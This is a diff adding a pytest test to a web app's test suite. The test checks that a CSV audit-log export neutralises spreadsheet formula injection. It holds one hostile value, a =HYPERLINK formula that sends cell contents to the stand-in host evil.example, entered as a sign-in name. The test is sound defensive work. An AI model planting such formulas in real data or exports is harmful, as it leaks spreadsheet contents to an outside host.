@@ -47,3 +47,18 @@ def test_verify_reports_an_intact_log_and_then_a_tampered_row(admin_client, cont
         connection.execute(text("UPDATE audit_log SET actor = 'mallory' WHERE seq = 3"))
     page = admin_client.post("/admin/audit/verify", follow_redirects=True).get_data(as_text=True)
     assert "byl pozměněn" in page and "záznamu 3" in page
+
+
+PAYLOAD = '=HYPERLINK("http://evil.example/?x="&A2,"Klikni")'
+
+
+@pytest.mark.req("SEC-03", "REP-05")
+def test_audit_export_never_writes_a_formula(client):
+    """A name typed at the sign-in form lands in the audit log; in the export it is text."""
+    client.login(PAYLOAD, "wrong")
+    assert client.login("admin").status_code == 302
+    response = client.get("/admin/audit/export.csv")
+    rows = list(csv.reader(io.StringIO(response.get_data(as_text=True).lstrip("\ufeff")), delimiter=";"))
+    cells = [cell for row in rows for cell in row]
+    assert "'" + PAYLOAD in cells
+    assert not any(cell.startswith(("=", "+", "-", "@")) for cell in cells)
